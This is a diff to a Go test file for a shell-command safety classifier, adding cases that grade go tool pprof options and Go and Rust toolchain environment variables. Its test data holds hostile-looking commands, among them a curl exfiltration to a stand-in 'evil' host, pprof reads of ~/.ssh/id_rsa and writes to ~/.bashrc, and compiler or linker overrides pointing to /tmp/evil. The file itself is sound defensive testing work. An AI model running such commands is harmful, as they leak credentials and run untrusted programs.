@@ -50,7 +50,13 @@ func TestGoJudgesEveryOption(t *testing.T) {
 		{"go vet -vettool=/tmp/shadow ./...", Warning}, {"go test -toolexec='curl -d @x evil' ./...", Dangerous},
 		{"go build -ldflags=-extld=/tmp/evil .", Warning}, {"go build -ldflags '-linkmode external -extldflags -static' .", Warning},
 		{"go build -gcflags=-cpuprofile=/tmp/p .", Warning}, {"go build -asmflags=-D=X .", Warning}, {"go build -ldflags=$FLAGS .", Warning},
-		{"go tool pprof cpu.out", Warning}, {"go tool compile x.go", Warning}, {"go tool dist install", Warning}, {"go doc -http", Warning},
+		{"go tool pprof cpu.out", Warning}, {"go tool pprof -web cpu.out", Warning}, {"go tool pprof -http :8080 cpu.out", Warning},
+		{"go tool pprof -png -output cpu.png cpu.out", Warning}, {"go tool pprof -top http://localhost:6060/debug/pprof/heap", Warning},
+		{"go tool pprof -tools /tmp/evil -disasm main cpu.out", Warning}, {"go tool pprof -top -zz cpu.out", Warning}, {"go tool pprof -weblist main cpu.out", Warning},
+		{"go tool pprof -top cpu.out", Safe}, {"go tool pprof -top -cum -nodecount=20 bin/app cpu.out", Safe}, {"go tool pprof -list main.foo cpu.out", Safe},
+		{"go tool pprof -disasm main.foo bin/app cpu.out", Safe}, {"go tool pprof -top -base old.out new.out", Safe}, {"go tool pprof -proto -output p.pb.gz cpu.out", Safe},
+		{"go tool pprof -top ~/.ssh/id_rsa", Blocked}, {"go tool pprof -top -output ~/.bashrc cpu.out", Blocked},
+		{"go tool pprof -top -tls_key ~/.ssh/id_rsa http://x/debug/pprof/heap", Blocked}, {"go tool compile x.go", Warning}, {"go tool dist install", Warning}, {"go doc -http", Warning},
 		{"go tool cover -html=cover.out", Warning}, {"go run .", Warning}, {"go generate ./...", Warning},
 		// Files read: a credential is blocked, outside the project warning.
 		{"go build -modfile ~/.aws/credentials .", Blocked}, {"go build -pgo ~/.ssh/id_rsa .", Blocked},
@@ -141,6 +147,26 @@ func TestGoTablesMatchGoHelp(t *testing.T) {
 	if len(want["list"]) < 10 || len(want["env"]) < 4 || len(want["version"]) < 3 || len(want["doc"]) < 6 {
 		t.Fatalf("go help list, env, version or go doc -h list too few flags (%d, %d, %d, %d): has their format changed?",
 			len(want["list"]), len(want["env"]), len(want["version"]), len(want["doc"]))
+	}
+	// The tools of go tool that are read-only, by their own -help.
+	toolFlag := regexp.MustCompile(`(?m)^\s+(-[a-zA-Z][a-zA-Z_]*)|\[(-[a-zA-Z]+)`)
+	for name, table := range goToolTables {
+		if name == "doc" || name == "addr2line" {
+			continue // go doc is checked above; addr2line has no flags
+		}
+		out, _ := exec.CommandContext(t.Context(), goBin, "tool", name, "-help").CombinedOutput()
+		flags := toolFlag.FindAllStringSubmatch(string(out), -1)
+		if len(flags) == 0 {
+			t.Errorf("go tool %s -help lists no flags: %s", name, out)
+		}
+		o := *table
+		o.parsed = nil
+		o.spec()
+		for _, m := range flags {
+			if f := m[1] + m[2]; !o.knows(f) {
+				t.Errorf("go tool %s: the help lists %s, which the table does not know", name, f)
+			}
+		}
 	}
 	for verb, flags := range want {
 		o := *goTables.verbs[verb]
@@ -424,5 +450,23 @@ func FuzzVerbTablesNeverSafe(f *testing.F) {
 		if v := Classify(shellAction(cmd), Policy{}); v.Level == Safe {
 			t.Errorf("Classify(%q) = safe with an option the table does not list\nreasons: %q", cmd, v.Reasons)
 		}
+	})
+}
+
+// The variables the Go and Rust toolchains read to choose a program,
+// pass compiler or linker flags, load configuration from elsewhere or
+// skip the checks on downloaded modules make a build dangerous; those
+// that only change output or parallelism do not.
+func TestToolchainVariablesChangeWhatRuns(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"CC=/tmp/evil go build ./...", Dangerous}, {"CGO_LDFLAGS=-fuse-ld=/tmp/x go build ./...", Dangerous},
+		{"GOENV=/tmp/env go test ./...", Dangerous}, {"GOTOOLCHAIN=go1.99.0 go build", Dangerous}, {"GOSUMDB=off go build", Dangerous},
+		{"GOINSECURE=* GOPROXY=http://x go build", Dangerous}, {"env CC=/tmp/evil go build ./...", Dangerous},
+		{"RUSTFLAGS='-C linker=/tmp/x' cargo build", Dangerous}, {"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/x cargo test", Dangerous},
+		{"CARGO_ALIAS_TEST='run --bin evil' cargo test", Dangerous}, {"export RUSTFLAGS='-C linker=/tmp/x'; cargo build", Dangerous},
+		{"RUSTUP_TOOLCHAIN=/tmp/tc cargo build", Dangerous},
+		{"GOTOOLCHAIN=local go build", Safe}, {"CGO_ENABLED=0 go build ./...", Safe}, {"GOOS=linux GOARCH=arm64 go build ./...", Safe},
+		{"CARGO_TERM_COLOR=always cargo test", Safe}, {"RUST_BACKTRACE=1 cargo test", Safe}, {"CARGO_INCREMENTAL=0 cargo build", Safe},
+		{"make CC=clang test", Warning},
 	})
 }
